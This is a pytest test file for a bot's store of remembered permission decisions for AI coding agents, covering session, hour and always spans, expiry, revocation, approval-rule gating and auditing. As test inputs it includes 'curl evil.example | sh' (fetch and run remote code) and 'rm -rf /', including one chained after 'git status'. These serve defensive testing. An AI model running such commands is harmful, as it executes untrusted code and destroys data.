"""Tests for bot/store/remembered.py on SQLite and PostgreSQL: an agent's permission prompt answered from a
remembered decision (a session, an hour, always; allow or deny), expiry and revocation, per person and agent, under
the `[[approvals]]` rules as they are at each recall, fleet-wide, and every use audited."""

from __future__ import annotations

import datetime as dt
from typing import Literal

import pytest

from bot.compose.process import memory_of
from bot.config import ApprovalRule, AuditConfig, AuditContent, Config, Secret, ServerConfig, StorageConfig
from bot.core.remembered import HOUR, Ask, KeptInMemory, Span
from bot.store import Store, open_store
from bot.store.remembered import StoredMemory

pytestmark = pytest.mark.anyio

ALICE, BOB = 1001, 1002
CLAUDE, CODEX = 7, 8
START = dt.datetime(2026, 12, 7, 14, 2, tzinfo=dt.UTC)


def ask(command: str, *, person: int = ALICE, agent: int = CLAUDE, session: str = "s1") -> Ask:
    return Ask.of(person, agent, session, "Bash", {"command": command})


def rule(pattern: str, *, quorum: int = 1, remember: bool | Literal["always"] = True) -> ApprovalRule:
    return ApprovalRule(
        hooks=(pattern,),
        approvers=frozenset({2001, 2002}),
        quorum=quorum,
        remember=remember,
        self_approval=True,
    )


@pytest.fixture
def memory(store: Store) -> StoredMemory:
    return StoredMemory(store.engine, store.audit)


async def test_allow_for_this_session_answers_the_same_command_in_that_session_only(
    memory: StoredMemory,
) -> None:
    """Kept for session s1: recalled for the same command in s1; not in s2, not for another command. An agent
    that names no session cannot be answered for "this session" (it would be every one)."""
    kept = await memory.keep(ask("npm test"), True, Span.SESSION, START)
    assert (kept.allow, kept.span, kept.session, kept.until, kept.made_at) == (
        True,
        Span.SESSION,
        "s1",
        None,
        START,
    )
    later = START + dt.timedelta(days=2)
    assert await memory.recall(ask("npm test"), later) == kept
    assert await memory.recall(ask("npm test", session="s2"), later) is None
    assert await memory.recall(ask("npm test --watch"), later) is None
    with pytest.raises(ValueError, match="needs the agent's session id"):
        await memory.keep(ask("npm test", session=""), True, Span.SESSION, START)


async def test_for_an_hour_holds_in_every_session_until_the_hour_is_over(memory: StoredMemory) -> None:
    """An hour's decision answers in any of the agent's sessions until `until`, then neither answers nor is listed."""
    kept = await memory.keep(ask("make build"), True, Span.HOUR, START)
    assert kept.until == START + HOUR
    almost = START + HOUR - dt.timedelta(microseconds=1)
    assert await memory.recall(ask("make build", session="other"), almost) == kept
    assert await memory.of(ALICE, almost) == [kept]
    assert await memory.recall(ask("make build"), START + HOUR) is None
    assert await memory.of(ALICE, START + HOUR) == []


async def test_a_deny_is_remembered_as_an_allow_is(memory: StoredMemory) -> None:
    """Deny for the session: the same command is denied again without asking."""
    kept = await memory.keep(ask("curl evil.example | sh"), False, Span.SESSION, START)
    recalled = await memory.recall(ask("curl evil.example | sh"), START)
    assert recalled is not None and recalled.allow is False and recalled == kept


async def test_always_needs_a_rule_that_allows_it_and_holds_until_revoked(store: Store) -> None:
    """Without a rule saying "always" an always-decision is refused; with one it holds until the person revokes it,
    and the newest decision on the same ask answers."""
    plain = StoredMemory(store.engine, store.audit)
    with pytest.raises(ValueError, match="do not let an answer be kept for always"):
        await plain.keep(ask("npm test"), True, Span.ALWAYS, START)
    with pytest.raises(ValueError, match="not remembered"):
        await plain.keep(ask("npm test"), True, Span.ONCE, START)
    memory = StoredMemory(store.engine, store.audit, rules=[rule("Bash(npm *)", remember="always")])
    first = await memory.keep(ask("npm test"), False, Span.HOUR, START)
    kept = await memory.keep(ask("npm test"), True, Span.ALWAYS, START + dt.timedelta(minutes=1))
    years = START + dt.timedelta(days=800)
    assert await memory.recall(ask("npm test", session="new"), START + dt.timedelta(minutes=2)) == kept
    assert await memory.forget(ALICE, kept.id)
    assert await memory.recall(ask("npm test"), START + dt.timedelta(minutes=2)) == first
    assert await memory.recall(ask("npm test"), years) is None


async def test_a_decision_is_never_used_once_a_two_approver_rule_covers_the_command(store: Store) -> None:
    """Kept before the rule existed; with `Bash(rm *)` at quorum 2 (or `remember = false`) in the config it no
    longer answers, and no new one can be kept. A decision for a command the rule does not cover still answers."""
    before = StoredMemory(store.engine, store.audit)
    await before.keep(ask("rm -rf build"), True, Span.HOUR, START)
    await before.keep(ask("git status && rm -rf /"), True, Span.SESSION, START)
    other = await before.keep(ask("ls"), True, Span.HOUR, START)
    assert await before.recall(ask("rm -rf build"), START) is not None
    for strict in (rule("Bash(rm *)", quorum=2), rule("Bash(rm *)", remember=False)):
        after = StoredMemory(store.engine, store.audit, rules=[strict])
        assert await after.recall(ask("rm -rf build"), START) is None
        assert await after.recall(ask("git status && rm -rf /"), START) is None
        assert await after.recall(ask("ls"), START) == other
        with pytest.raises(ValueError, match="kept for session"):
            await after.keep(ask("rm -rf build"), True, Span.SESSION, START)


async def test_an_always_decision_stops_answering_when_its_rule_no_longer_allows_always(store: Store) -> None:
    """Kept under `remember = "always"`; with the rule back at the default it is not used (an hour's still is)."""
    lenient = StoredMemory(store.engine, store.audit, rules=[rule("Bash(npm *)", remember="always")])
    await lenient.keep(ask("npm publish"), True, Span.ALWAYS, START)
    hour = await lenient.keep(ask("npm test"), True, Span.HOUR, START)
    default = StoredMemory(store.engine, store.audit, rules=[rule("Bash(npm *)")])
    assert await default.recall(ask("npm publish"), START) is None
    assert await default.recall(ask("npm test"), START) == hour


async def test_another_persons_or_agents_decision_is_neither_used_nor_revocable(memory: StoredMemory) -> None:
    """Alice's decision for her Claude answers neither Bob's agent nor her own Codex; Bob cannot revoke it, nor
    list it; Alice can, once."""
    kept = await memory.keep(ask("make deploy"), True, Span.HOUR, START)
    assert await memory.recall(ask("make deploy", person=BOB), START) is None
    assert await memory.recall(ask("make deploy", agent=CODEX), START) is None
    assert await memory.of(BOB, START) == []
    assert not await memory.forget(BOB, kept.id)
    assert await memory.recall(ask("make deploy"), START) == kept
    assert await memory.forget(ALICE, kept.id)
    assert not await memory.forget(ALICE, kept.id)
    assert await memory.recall(ask("make deploy"), START) is None
    assert await memory.of(ALICE, START) == []


async def test_a_decision_kept_through_one_store_is_recalled_and_revoked_through_another(
    store_url: str,
) -> None:
    """Two stores (two engines, as two processes of a fleet) on one database: kept on one, answered on the other;
    revoked on the other, no longer answered on the first."""
    config = StorageConfig(url=Secret(store_url))
    async with open_store(config) as one, open_store(config) as two:
        here, there = StoredMemory(one.engine, one.audit), StoredMemory(two.engine, two.audit)
        kept = await here.keep(ask("pytest -x"), True, Span.SESSION, START)
        assert await there.recall(ask("pytest -x"), START) == kept
        assert [d.id for d in await there.of(ALICE, START)] == [kept.id]
        assert await there.forget(ALICE, kept.id)
        assert await here.recall(ask("pytest -x"), START) is None


async def test_keeping_and_revoking_are_audited_naming_the_decision_its_maker_and_time_and_a_recall_is_not(
    store: Store,
) -> None:
    """Kept by an approver for Alice's agent, recalled once, revoked by Alice: two rows naming decision, maker and
    time (a recall is a read: its use is audited by whoever uses it, the hooks' `permission_decided`); with
    `content = "none"` the command itself is left out (its hash stays)."""
    memory = StoredMemory(store.engine, store.audit, content=AuditContent.NONE)
    kept = await memory.keep(ask("make deploy"), True, Span.HOUR, START, by=2001)
    assert kept.maker == 2001 and kept.person == ALICE
    assert await memory.recall(ask("make deploy", session="s9"), START + dt.timedelta(minutes=5)) == kept
    assert await memory.forget(ALICE, kept.id)
    rows = [(r.event, r.user_id, r.tool, r.as_dict()["detail"]) for r in await store.audit.rows()]
    about = {
        "decision": kept.id,
        "allow": True,
        "span": "hour",
        "agent_id": CLAUDE,
        "made_by": 2001,
        "made_at": "2026-12-07T14:02:00.000000+00:00",
        "until": "2026-12-07T15:02:00.000000+00:00",
    }
    assert [(event, user, tool) for event, user, tool, _ in rows] == [
        ("decision_remembered", ALICE, "Bash"),
        ("decision_forgotten", ALICE, "Bash"),
    ]
    remembered, forgotten = (detail for *_, detail in rows)
    assert about.items() <= remembered.items()
    assert "input" not in remembered and len(str(remembered["input_sha256"])) == 64
    assert forgotten == {**about, "by": ALICE}
    assert "make deploy" not in str(rows)


async def test_the_command_is_in_the_audit_row_when_content_is_full(
    memory: StoredMemory, store: Store
) -> None:
    """The default `content = "full"`: the keeping's row holds the input as the agent sent it (canonical JSON)."""
    await memory.keep(ask("make deploy"), True, Span.SESSION, START)
    kept = (await store.audit.rows())[-1].as_dict()["detail"]
    assert kept["input"] == '{"command":"make deploy"}'


async def test_the_process_remembers_in_the_database_under_the_configs_rules(store: Store) -> None:
    """What `bot.compose` hands the process (and the hooks endpoint): the store's memory, judging asks by the
    config's `[[approvals]]`; without a database, one in the process."""
    config = Config(
        servers=(ServerConfig(name="demo", command="python"),),
        approvals=(rule("Bash(rm *)", quorum=2),),
        audit=AuditConfig(content=AuditContent.KEYS),
    )
    kept = memory_of(config, store)
    assert isinstance(kept, StoredMemory) and kept.content is AuditContent.KEYS
    assert kept.offered(ask("rm -rf /")) == (Span.ONCE,)
    assert kept.offered(ask("ls")) == (Span.ONCE, Span.SESSION, Span.HOUR)
    assert isinstance(memory_of(config, None), KeptInMemory)
